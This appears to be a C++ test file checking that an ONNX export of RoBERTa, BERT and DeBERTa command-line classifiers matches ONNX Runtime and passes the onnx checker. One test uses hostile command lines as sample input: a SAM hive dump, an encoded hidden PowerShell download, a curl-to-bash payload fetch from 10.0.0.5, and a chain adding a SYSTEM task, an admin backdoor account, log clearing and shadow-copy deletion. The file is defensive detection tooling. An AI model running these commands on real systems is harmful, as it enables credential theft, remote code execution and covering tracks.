// The ONNX export (inference/onnx_export.h) checked by programs that share no code with attune:
// - ONNX Runtime (the onnxruntime-node package, which tools/setup.sh installs into build/js where npm is)
//   runs each exported graph on batches of different sizes and lengths, right-padded, and must give
//   attune's own logits within kTolerance (1e-4 absolute, fp32); on the golden checkpoints of ../shared also
//   transformers' logits;
// - Debian's python3-onnx checks each file (onnx.checker with full_check, strict shape inference) and
//   reads back the declared inputs and output: int64 input_ids / attention_mask [batch, sequence],
//   float logits [batch, num_labels].
// Covers RoBERTa, BERT and DeBERTa-v2 in a v3-style configuration (log-bucketed relative positions, shared
// position projections, norm_rel_ebd, no absolute positions; sequences longer than the bucket span) and a
// v2-style one (separate c2p/p2c projections, clipped distances, absolute positions, token types,
// embed_proj, the ConvLayer). Each check skips, saying why, where its program is absent.
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "base/errors.h"
#include "data/tokenizers/tokenizer.h"
#include "e2e/e2e_util.h"
#include "inference/onnx_export.h"
#include "models/hf_config.h"
#include "models/model_factory.h"
#include "models/safetensors.h"
#include "test_paths.h"

namespace {

namespace fs = std::filesystem;
using attune::models::HFConfig;
using attune::testing::quote;
using attune::testing::slurp;

constexpr double kTolerance = 1e-4;  // max |attune logit - ONNX Runtime logit|, fp32

fs::path js_dir() {
  return attune::testing::bin_dir().parent_path() / "js";
}

// Why ONNX Runtime cannot run here ("" when it can).
std::string runtime_missing() {
  if (std::system("command -v node >/dev/null 2>&1") != 0) return "node is not installed";
  if (!fs::exists(js_dir() / "node_modules/onnxruntime-node/package.json"))
    return js_dir().string() + " has no onnxruntime-node (tools/setup.sh installs it where npm is)";
  return "";
}

#define SKIP_WITHOUT_ONNX_RUNTIME()                                                       \
  do {                                                                                    \
    const auto why = runtime_missing();                                                   \
    if (!why.empty()) GTEST_SKIP() << why << ": the ONNX Runtime cross-check is skipped"; \
  } while (0)

// A Python that imports onnx (Debian's python3-onnx lives in /usr/bin/python3's dist-packages); "" if none.
std::string python_with_onnx() {
  for (const std::string python : {"/usr/bin/python3", "python3"})
    if (std::system((python + " -c 'import onnx' >/dev/null 2>&1").c_str()) == 0) return python;
  return "";
}

struct Batch {
  torch::Tensor ids, mask;  // [B, T] int64
};

struct Tokens {
  int64_t vocab, pad, first,
      last;  // first / last: the ids every row starts and ends with (<s> </s>, [CLS] [SEP])
};

// One row per length, right-padded to the longest with tokens.pad; random ids in between.
Batch make_batch(const std::vector<int64_t>& lengths, const Tokens& tokens, uint64_t seed) {
  std::mt19937_64 rng(seed);
  std::uniform_int_distribution<int64_t> id(4, tokens.vocab - 1);
  const int64_t T = *std::max_element(lengths.begin(), lengths.end());
  const auto B = static_cast<int64_t>(lengths.size());
  Batch b{torch::full({B, T}, tokens.pad, torch::kLong), torch::zeros({B, T}, torch::kLong)};
  for (int64_t r = 0; r < B; ++r) {
    const int64_t n = lengths[r];
    for (int64_t t = 0; t < n; ++t) {
      b.ids[r][t] = t == 0 ? tokens.first : t == n - 1 ? tokens.last : id(rng);
      b.mask[r][t] = 1;
    }
  }
  return b;
}

nlohmann::json rows(const torch::Tensor& t) {
  nlohmann::json out = nlohmann::json::array();
  const auto a = t.accessor<int64_t, 2>();
  for (int64_t r = 0; r < t.size(0); ++r) {
    std::vector<int64_t> row(t.size(1));
    for (int64_t c = 0; c < t.size(1); ++c) row[c] = a[r][c];
    out.push_back(row);
  }
  return out;
}

struct RuntimeRun {
  std::vector<std::string> inputs, outputs;
  std::vector<torch::Tensor> logits;  // one [B, num_labels] per batch
};

// ONNX Runtime's logits for each batch (tests/inference/onnx_runtime_check.mjs).
RuntimeRun run_onnx_runtime(const fs::path& model, const std::vector<Batch>& batches) {
  nlohmann::json input = nlohmann::json::array();
  for (const auto& b : batches)
    input.push_back({{"input_ids", rows(b.ids)}, {"attention_mask", rows(b.mask)}});
  const fs::path work = model.parent_path();
  const fs::path batches_file = work / "batches.json", out = work / "onnx_runtime.json";
  std::ofstream(batches_file) << input.dump();
  const std::string command =
      "node " + quote((attune::testing::source_dir() / "tests/inference/onnx_runtime_check.mjs").string()) +
      " " + quote(js_dir().string()) + " " + quote(model.string()) + " " + quote(batches_file.string()) +
      " >" + quote(out.string()) + " 2>&1";
  if (std::system(command.c_str()) != 0) throw std::runtime_error("ONNX Runtime failed: " + slurp(out));
  const auto j = nlohmann::json::parse(slurp(out));
  RuntimeRun run;
  run.inputs = j.at("inputs").get<std::vector<std::string>>();
  run.outputs = j.at("outputs").get<std::vector<std::string>>();
  for (const auto& l : j.at("logits")) {
    const auto dims = l.at("dims").get<std::vector<int64_t>>();
    const auto data = l.at("data").get<std::vector<float>>();
    run.logits.push_back(torch::tensor(data).view(dims));
  }
  return run;
}

torch::Tensor attune_logits(attune::models::SequenceClassifier& model, const Batch& b) {
  torch::NoGradGuard no_grad;
  model.eval();
  return model.forward(b.ids, b.mask).logits.to(torch::kFloat);
}

// Exports `model`, runs every batch in ONNX Runtime and returns max |attune - ONNX Runtime| over all logits.
double onnx_runtime_vs_attune(attune::models::SequenceClassifier& model, const fs::path& file,
                              const std::vector<Batch>& batches, torch::ScalarType dtype = torch::kFloat) {
  const auto summary = attune::inference::write_onnx(model, file, dtype);
  EXPECT_TRUE(fs::exists(file));
  EXPECT_GT(summary.nodes, 10);
  const auto run = run_onnx_runtime(file, batches);
  EXPECT_EQ(run.inputs, (std::vector<std::string>{"input_ids", "attention_mask"}));
  EXPECT_EQ(run.outputs, (std::vector<std::string>{"logits"}));
  double worst = 0;
  EXPECT_EQ(run.logits.size(), batches.size());
  for (size_t i = 0; i < batches.size() && i < run.logits.size(); ++i) {
    const auto expected = attune_logits(model, batches[i]);
    EXPECT_EQ(run.logits[i].sizes(), expected.sizes()) << "batch " << i;
    if (run.logits[i].sizes() != expected.sizes()) continue;
    // The test means something only where logits differ between texts and classes.
    EXPECT_GT((expected.max() - expected.min()).item<double>(), 0.05) << "batch " << i;
    worst = std::max(worst, (run.logits[i] - expected).abs().max().item<double>());
  }
  return worst;
}

// A tiny random-init classifier config (hidden 32, 2 layers, 4 heads, 3 labels); weights N(0, 0.2) so that
// logits are O(1).
HFConfig tiny_config(const std::string& model_type) {
  auto c = attune::models::default_hf_config(model_type);
  c.vocab_size = 100;
  c.hidden_size = 32;
  c.num_hidden_layers = 2;
  c.num_attention_heads = 4;
  c.intermediate_size = 37;
  c.max_position_embeddings = 64;
  c.initializer_range = 0.2;
  c.hidden_dropout_prob = 0.1;  // eval mode: must not matter
  c.attention_probs_dropout_prob = 0.1;
  attune::models::set_labels(c, {"Benign", "T1003.002", "T1059.004"});
  if (!c.raw.is_object()) c.raw = nlohmann::json::object();
  return c;
}

struct Case {
  std::string name;
  HFConfig config;
  Tokens tokens;
  int64_t max_length;  // the longest sequence the model takes
};

std::vector<Case> tiny_cases() {
  std::vector<Case> cases;
  {
    auto c = tiny_config("roberta");  // pad 1, <s> 0, </s> 2; positions pad+1 .. pad+T
    c.max_position_embeddings = 66;
    c.type_vocab_size = 1;
    c.layer_norm_eps = 1e-5;
    cases.push_back({"roberta", c, {100, 1, 0, 2}, 64});
  }
  {
    auto c = tiny_config("bert");  // pad 0
    cases.push_back({"bert", c, {100, 0, 2, 3}, 64});
  }
  {
    auto c = tiny_config("deberta-v2");  // DeBERTa-v3 layout
    c.relative_attention = true;
    c.position_buckets = 16;
    c.max_relative_positions = -1;  // = max_position_embeddings
    c.pos_att_type = {"p2c", "c2p"};
    c.norm_rel_ebd = "layer_norm";
    c.share_att_key = true;
    c.position_biased_input = false;
    c.type_vocab_size = 0;
    c.layer_norm_eps = 1e-7;
    cases.push_back({"deberta_v3_style", c, {100, 0, 1, 2}, 300});  // no absolute positions: any length
  }
  {
    auto c = tiny_config("deberta-v2");  // DeBERTa-v2 (xlarge-like) layout, scaled down
    c.relative_attention = true;
    c.position_buckets = -1;
    c.max_relative_positions = 12;  // distances clip at 12
    c.pos_att_type = {"c2p", "p2c"};
    c.share_att_key = false;
    c.position_biased_input = true;
    c.type_vocab_size = 2;
    c.embedding_size = 24;  // embed_proj
    c.hidden_act = "gelu_new";
    c.raw["conv_kernel_size"] = 3;
    c.raw["conv_act"] = "tanh";
    cases.push_back({"deberta_v2_style", c, {100, 0, 1, 2}, 64});
  }
  return cases;
}

std::vector<Batch> batches_for(const Case& c) {
  std::vector<Batch> out = {make_batch({5}, c.tokens, 1), make_batch({17, 9, 3}, c.tokens, 2),
                            make_batch({64, 40}, c.tokens, 3), make_batch({33, 33, 2, 20}, c.tokens, 4)};
  if (c.max_length > 64) out.push_back(make_batch({c.max_length, 120}, c.tokens, 5));
  return out;
}

class TinyModels : public ::testing::TestWithParam<size_t> {};

TEST_P(TinyModels, MatchAttuneInOnnxRuntime) {
  const auto c = tiny_cases().at(GetParam());
  auto model = attune::models::create_model(c.config, /*seed=*/7);
  const fs::path file = attune::testing::temp_dir("onnx-" + c.name) / "model.onnx";
  SKIP_WITHOUT_ONNX_RUNTIME();
  const double worst = onnx_runtime_vs_attune(*model, file, batches_for(c));
  std::cout << c.name << ": max |attune - ONNX Runtime| = " << worst << "\n";
  RecordProperty("max_abs_logit_diff", std::to_string(worst));
  EXPECT_LE(worst, kTolerance) << c.name;
}

INSTANTIATE_TEST_SUITE_P(OnnxExport, TinyModels, ::testing::Range<size_t>(0, 4),
                         [](const ::testing::TestParamInfo<size_t>& info) {
                           return tiny_cases().at(info.param).name;
                         });

TEST(OnnxExport, EachArchitecturePassesTheOnnxCheckerWithDynamicBatchAndSequence) {
  const auto python = python_with_onnx();
  if (python.empty())
    GTEST_SKIP() << "no python3 with the onnx package (Debian's python3-onnx): checker skipped";
  for (const auto& c : tiny_cases()) {
    auto model = attune::models::create_model(c.config, 7);
    const fs::path file = attune::testing::temp_dir("onnx-check-" + c.name) / "model.onnx";
    attune::inference::write_onnx(*model, file);
    const fs::path out = file.parent_path() / "check.json";
    const std::string command =
        python + " " +
        quote((attune::testing::source_dir() / "tests/inference/onnx_check_model.py").string()) + " " +
        quote(file.string()) + " >" + quote(out.string()) + " 2>&1";
    ASSERT_EQ(std::system(command.c_str()), 0) << c.name << ": " << slurp(out);
    const auto j = nlohmann::json::parse(slurp(out));
    EXPECT_EQ(j["opset"][""], attune::inference::kOnnxOpset) << c.name;
    EXPECT_EQ(j["ir_version"], attune::inference::kOnnxIrVersion) << c.name;
    for (const char* name : {"input_ids", "attention_mask"}) {
      EXPECT_EQ(j["inputs"][name]["elem_type"], "INT64") << c.name << " " << name;
      EXPECT_EQ(j["inputs"][name]["dims"], nlohmann::json::parse(R"(["batch", "sequence"])")) << c.name;
    }
    EXPECT_EQ(j["inputs"].size(), 2u) << c.name;
    EXPECT_EQ(j["outputs"]["logits"]["elem_type"], "FLOAT") << c.name;
    EXPECT_EQ(j["outputs"]["logits"]["dims"], nlohmann::json::parse(R"(["batch", 3])")) << c.name;
    EXPECT_EQ(j["metadata"]["id2label"], R"({"0":"Benign","1":"T1003.002","2":"T1059.004"})") << c.name;
  }
}

TEST(OnnxExport, Bf16WeightsStayBf16AndMatchAttuneOnTheSameWeights) {
  const auto c = tiny_cases().at(2);  // DeBERTa, v3-style
  auto model = attune::models::create_model(c.config, 11);
  const fs::path dir = attune::testing::temp_dir("onnx-bf16") / "merged";
  attune::models::save_model(*model, dir, torch::kBFloat16);
  const auto summary = attune::inference::write_onnx_for_dir(dir);
  EXPECT_EQ(summary.file, dir / attune::inference::kOnnxFile);
  EXPECT_EQ(summary.weight_dtype, torch::kBFloat16);
  const auto fp32 = attune::inference::write_onnx(*model, dir.parent_path() / "fp32.onnx");
  // Half the weight bytes; names, nodes and the relative-position tables weigh the same in both (a quarter
  // of this tiny file).
  EXPECT_LT(summary.bytes, fp32.bytes * 7 / 10);
  SKIP_WITHOUT_ONNX_RUNTIME();
  auto loaded = attune::models::load_model(dir);  // the bf16-rounded weights, computed in fp32
  const auto batches = batches_for(c);
  const auto run = run_onnx_runtime(summary.file, batches);
  double worst = 0;
  for (size_t i = 0; i < batches.size(); ++i)
    worst =
        std::max(worst, (run.logits.at(i) - attune_logits(*loaded, batches[i])).abs().max().item<double>());
  std::cout << "deberta bf16 weights: max |attune - ONNX Runtime| = " << worst << "\n";
  EXPECT_LE(worst, kTolerance);
}

TEST(OnnxExport, GoldenCheckpointsMatchTransformersAndAttuneInOnnxRuntime) {
  ATTUNE_REQUIRE_SHARED("golden");
  SKIP_WITHOUT_ONNX_RUNTIME();
  const fs::path golden = attune::testing::shared_dir() / "golden";
  // dir, the golden file with its inputs and transformers' logits, and whether those logits used zero
  // token types (BERT's golden passes sentence-pair token types: compared with attune only).
  const std::vector<std::tuple<std::string, std::string, bool>> dirs = {
      {"roberta", "roberta/golden.safetensors", true},
      {"bert", "bert/golden.safetensors", false},
      {"deberta_v2", "deberta_v2/golden.safetensors", true},
      {"deberta_v2_pb8", "deberta_v2_pb8/golden.safetensors", true},
      {"roberta_lora/merged", "roberta_lora/golden.safetensors", true},
      {"deberta_v2_lora/merged", "deberta_v2_lora/golden.safetensors", true}};
  for (const auto& [sub, golden_file, compare_hf] : dirs) {
    const fs::path dir = attune::testing::temp_dir("onnx-golden") / sub;
    fs::create_directories(dir);
    for (const char* f : {"config.json", "model.safetensors"}) fs::copy_file(golden / sub / f, dir / f);
    const auto summary = attune::inference::write_onnx_for_dir(dir);
    EXPECT_EQ(summary.weight_dtype, torch::kFloat);
    auto model = attune::models::load_model(dir);
    const auto g = attune::models::SafetensorsFile::open(golden / golden_file);
    const Batch given{g->get("input_ids"), g->get("attention_mask")};
    const auto& cfg = model->config;
    const int64_t pad = cfg.pad_token_id;
    const Tokens tokens{cfg.vocab_size, pad, pad == 1 ? 0 : 1, 2};
    // The golden models take 64 positions (RoBERTa's start after pad: 62 tokens).
    std::vector<Batch> batches = {given, make_batch({62, 30, 7}, tokens, 21),
                                  make_batch({1, 12}, tokens, 22)};
    // DeBERTa-v3 has no absolute positions: any length. deberta_v2's span (256 buckets) is wider than its
    // max_relative_positions (64), so its bucket formula folds back and distances beyond the export's
    // table (1024) are bucketed inside the graph.
    if (!cfg.position_biased_input) batches.push_back(make_batch({1100, 300}, tokens, 23));
    const auto run = run_onnx_runtime(summary.file, batches);
    double worst = 0;
    for (size_t i = 0; i < batches.size(); ++i)
      worst =
          std::max(worst, (run.logits.at(i) - attune_logits(*model, batches[i])).abs().max().item<double>());
    std::cout << sub << ": max |attune - ONNX Runtime| = " << worst;
    EXPECT_LE(worst, kTolerance) << sub;
    if (compare_hf) {
      const auto hf = g->get(golden_file.find("lora") != std::string::npos ? "logits_merged" : "logits");
      const double vs_hf = (run.logits.at(0) - hf).abs().max().item<double>();
      std::cout << ", |transformers - ONNX Runtime| = " << vs_hf;
      EXPECT_LE(vs_hf, kTolerance) << sub;
    }
    std::cout << "\n";
  }
}

// The embedded pretrained backbones (models/embedded: 4 layers, hidden 256, 8,000-token vocabularies) with a
// seeded classification head, on real command lines of different lengths tokenized by their own tokenizers.
TEST(OnnxExport, EmbeddedBackbonesOnCommandLinesMatchAttuneInOnnxRuntime) {
  SKIP_WITHOUT_ONNX_RUNTIME();
  const std::vector<std::string> texts = {
      "whoami",
      "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv /y",
      "powershell -nop -w hidden -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      "curl -s http://10.0.0.5:8080/payload.sh | bash",
      "find / -perm -4000 -type f 2>/dev/null",
      "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 5 /ru SYSTEM && "
      "net user backup P@ssw0rd! /add && net localgroup administrators backup /add && "
      "wevtutil cl Security && vssadmin delete shadows /all /quiet",
      "ls -la"};
  for (const char* name : {"roberta-compact", "deberta-v3-compact"}) {
    const fs::path dir = attune::testing::source_dir() / "models/embedded" / name;
    auto model = attune::models::load_model(dir, nullptr, /*num_labels=*/3, /*seed=*/5);
    {  // a wider last layer than the N(0, 0.02) init, so that the logits are O(1)
      torch::NoGradGuard no_grad;
      for (auto& p : model->named_parameters())
        if (p.key() == "classifier.weight" || p.key() == "classifier.out_proj.weight") p.value().mul_(20);
    }
    const auto tokenizer = attune::data::load_tokenizer(dir);
    std::vector<std::vector<int64_t>> ids;
    for (const auto& t : texts) ids.push_back(tokenizer->encode(t, true, /*max_length=*/128));
    std::vector<Batch> batches;
    for (const auto& [first, count] : std::vector<std::pair<size_t, size_t>>{{0, 1}, {1, 3}, {0, 7}}) {
      size_t T = 0;
      for (size_t i = first; i < first + count; ++i) T = std::max(T, ids[i].size());
      Batch b{torch::full({int64_t(count), int64_t(T)}, tokenizer->pad_id(), torch::kLong),
              torch::zeros({int64_t(count), int64_t(T)}, torch::kLong)};
      for (size_t r = 0; r < count; ++r)
        for (size_t t = 0; t < ids[first + r].size(); ++t) {
          b.ids[r][t] = ids[first + r][t];
          b.mask[r][t] = 1;
        }
      batches.push_back(b);
    }
    const fs::path file = attune::testing::temp_dir(std::string("onnx-embedded-") + name) / "model.onnx";
    attune::inference::write_onnx(*model, file);
    const auto run = run_onnx_runtime(file, batches);
    double worst = 0, scale = 0;
    for (size_t i = 0; i < batches.size(); ++i) {
      const auto expected = attune_logits(*model, batches[i]);
      worst = std::max(worst, (run.logits.at(i) - expected).abs().max().item<double>());
      scale = std::max(scale, expected.abs().max().item<double>());
    }
    std::cout << name << ": max |attune - ONNX Runtime| = " << worst << " (logits up to " << scale << ")\n";
    EXPECT_LE(worst, kTolerance) << name;
  }
}

TEST(OnnxExport, RefusesWhatItCannotExpress) {
  auto lstm = attune::models::create_model(attune::models::default_hf_config(attune::models::kLstmModelType));
  const fs::path file = attune::testing::temp_dir("onnx-refuse") / "model.onnx";
  EXPECT_THROW(attune::inference::write_onnx(*lstm, file), attune::InputError);
  auto bert = attune::models::create_model(tiny_config("bert"));
  EXPECT_THROW(attune::inference::write_onnx(*bert, file, torch::kHalf), attune::InputError);
  EXPECT_FALSE(fs::exists(file));
  EXPECT_THROW(attune::inference::write_onnx_for_dir(file.parent_path()), attune::InputError);
}

}  // namespace
